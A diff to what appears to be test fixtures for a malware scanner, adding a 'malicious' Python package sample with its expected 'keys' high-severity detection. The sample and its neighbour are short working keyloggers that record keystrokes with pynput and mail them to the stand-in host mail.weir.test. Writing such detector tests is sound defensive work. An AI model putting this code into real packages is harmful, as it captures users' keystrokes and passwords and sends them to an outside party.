@@ -8,6 +8,13 @@ function at(rule: string, severity: 'medium' | 'high', line: number): Sample['ex
 export const samples: Samples = {
   malicious: [
     {
+      name: 'keys that are mailed once there are enough of them, in a function',
+      files: wheel(
+        "import smtplib\nfrom pynput.keyboard import Listener\nlog = []\ndef note(key):\n    log.append(str(key))\n    if len(log) > 100:\n        smtplib.SMTP('mail.weir.test').sendmail('a@weir.test', 'b@weir.test', ''.join(log))\ndef start():\n    Listener(on_press=note).start()\n",
+      ),
+      expected: at('keys', 'high', 9),
+    },
+    {
       name: 'keys that are mailed',
       files: wheel(
         "import smtplib\nfrom pynput import keyboard\nlog = []\ndef mail():\n    s = smtplib.SMTP('mail.weir.test')\n    s.sendmail('a@weir.test', 'b@weir.test', ''.join(log))\nmail()\nkeyboard.Listener(on_press=log.append).start()\n",
